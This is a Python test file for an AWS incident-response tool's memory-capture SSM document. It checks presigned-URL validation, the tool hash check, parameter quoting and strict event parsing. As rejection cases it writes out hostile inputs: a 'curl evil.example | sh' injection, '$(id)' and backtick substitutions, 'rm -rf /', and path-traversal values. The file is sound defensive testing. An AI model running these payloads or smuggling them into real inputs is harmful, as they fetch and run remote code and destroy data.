"""The memory-capture document accepts only the evidence bucket's presigned URLs; its follow-up
event is parsed strictly."""

from __future__ import annotations

import json
import re
from typing import Any

import boto3
import pytest
from botocore.config import Config

from chalicelib.actions.ec2 import memory_document
from chalicelib.entry import captures
from chalicelib.errors import ConfigError
from chalicelib.settings import Settings
from tests.conftest import EVENTS

BUCKET = "eks-responder-prod-evidence-123456789012-eu-west-1"
KEY = "evidence/123456789012/eu-west-1/0f58ba0f/instances/i-0a1b2c3d4e5f60718/memory/"


def _presigned(key: str, method: str = "put_object", bucket: str = BUCKET) -> str:
    """A URL signed as the deployed responder signs one (regional, virtual-hosted, SigV4), offline."""
    style = Config(signature_version="s3v4", s3={"addressing_style": "virtual"})
    s3 = boto3.client("s3", region_name="eu-west-1", aws_access_key_id="AKIAEXAMPLE", aws_secret_access_key="x",
                      aws_session_token="token/with+chars=", config=style)  # fmt: skip
    return str(s3.generate_presigned_url(method, Params={"Bucket": bucket, "Key": key}, ExpiresIn=7200))


def _accepts(parameter: str, value: str) -> bool:
    pattern = memory_document.content(BUCKET)["parameters"][parameter]["allowedPattern"]
    return re.fullmatch(pattern, value) is not None


@pytest.mark.parametrize(("parameter", "file_name"), sorted(memory_document.UPLOADS.items()))
def test_each_upload_takes_its_own_presigned_url_of_the_evidence_bucket(parameter: str, file_name: str) -> None:
    assert _accepts(parameter, _presigned(KEY + file_name))
    other = next(f for f in memory_document.UPLOADS.values() if f != file_name)
    assert not _accepts(parameter, _presigned(KEY + other))  # another file's URL
    assert not _accepts(parameter, _presigned(KEY + file_name, bucket="attacker-bucket"))
    assert not _accepts(parameter, _presigned("elsewhere/" + file_name))  # not a capture folder
    assert not _accepts(parameter, _presigned(KEY + file_name).replace("https://", "http://"))
    for injected in ("'; curl evil.example | sh; '", " $(id)", "`id`", "\nrm -rf /", '"'):
        assert not _accepts(parameter, _presigned(KEY + file_name) + injected)


def test_the_tool_comes_only_from_the_bucket_and_only_with_its_hash() -> None:
    assert _accepts("ToolUrl", _presigned("evidence/tools/avml", "get_object"))
    assert not _accepts("ToolUrl", "https://github.com/microsoft/avml/releases/download/v0.14.0/avml")
    assert not _accepts("ToolUrl", _presigned("evidence/tools/avml", "get_object", bucket="attacker-bucket"))
    assert _accepts("ToolSha256", "a" * 64)
    assert not _accepts("ToolSha256", "a" * 63)
    assert not _accepts("ToolSha256", "a" * 64 + "; id")


def test_every_parameter_is_quoted_where_the_script_uses_it() -> None:
    script = "\n".join(memory_document.content(BUCKET)["mainSteps"][0]["inputs"]["runCommand"])
    used = re.findall(r"\{\{(\w+)\}\}", script)
    assert set(used) == set(memory_document.content(BUCKET)["parameters"])
    assert all(f"'{{{{{name}}}}}'" in script for name in used)  # single quotes: no expansion by the shell
    assert script.index("sha256sum -c") < script.index("./avml")  # the hash is checked before it runs


def test_the_template_binds_the_patterns_to_the_bucket_parameter() -> None:
    template = memory_document.template("prod")
    document = template["Resources"]["MemoryCaptureDocument"]["Properties"]
    assert document["Name"] == "eks-responder-prod-memory-capture"
    pattern = document["Content"]["parameters"]["ImageUrl"]["allowedPattern"]
    assert pattern == {"Fn::Sub": memory_document.upload_pattern("${EvidenceBucket}", "memory.lime")}
    assert re.fullmatch(template["Parameters"]["EvidenceBucket"]["AllowedPattern"], BUCKET)
    assert not re.fullmatch(template["Parameters"]["EvidenceBucket"]["AllowedPattern"], "dotted.bucket.name")


def _ended(**detail: Any) -> dict[str, Any]:
    event: dict[str, Any] = json.loads((EVENTS / "ssm" / "memory-capture-succeeded.json").read_text())
    event["detail"].update(detail)
    return event


def test_the_status_event_is_parsed_strictly() -> None:
    document = "eks-responder-local-memory-capture"
    ended = captures.parse(_ended(), document)
    assert (ended.instance, ended.status) == ("i-0a1b2c3d4e5f60718", "Success")
    for hostile in (
        {"document-name": "AWS-RunShellScript"},
        {"status": "InProgress"},
        {"command-id": "../../captures/x"},
        {"instance-id": "i-0a1b2c3d4e5f60718/../x"},
        {"status": ["Success"]},
    ):
        with pytest.raises(captures.NotOursError):
            captures.parse(_ended(**hostile), document)
    with pytest.raises(captures.NotOursError):
        captures.parse({**_ended(), "source": "custom.ssm"}, document)


def test_sums_keep_only_well_formed_lines() -> None:
    text = f"{'a' * 64}  memory.lime\n{'b' * 64} *volatile.txt\nnot a line\n{'c' * 64}  ../escape\n".encode()
    assert captures.sums(text) == {"memory.lime": "a" * 64, "volatile.txt": "b" * 64}


def test_capture_settings_are_checked() -> None:
    assert Settings.from_env({"AVML_SHA256": "f" * 64}).avml_sha256 == "f" * 64
    assert Settings.from_env({"FORENSICS_EGRESS": "sg-0123456789abcdef0,pl-63a5400a"}).forensics_egress == (
        "sg-0123456789abcdef0", "pl-63a5400a"
    )  # fmt: skip
    with pytest.raises(ConfigError, match="AVML_SHA256"):
        Settings.from_env({"AVML_SHA256": "not-a-hash"})
    with pytest.raises(ConfigError, match="FORENSICS_EGRESS"):
        Settings.from_env({"FORENSICS_EGRESS": "0.0.0.0/0"})


def test_the_capture_tag_holds_any_incident_id_and_reads_back() -> None:
    from chalicelib.actions.ec2.capture_memory import _tagged

    odd = "kms-KMS CMK Deletion-arn:aws:kms:us-east-1:123456789012:key/1234abcd#x" + "y" * 300
    tagged = _tagged(odd)
    assert len(tagged) == 180
    assert re.fullmatch(r"[A-Za-z0-9 +\-=._:/@]*", tagged)
    value = f"8c3f9e2a-51d4-4b7e-9a0c-2f6e8d1b7a35/2026-12-01T10:00:00+00:00/{tagged}"
    assert len(value) <= 256
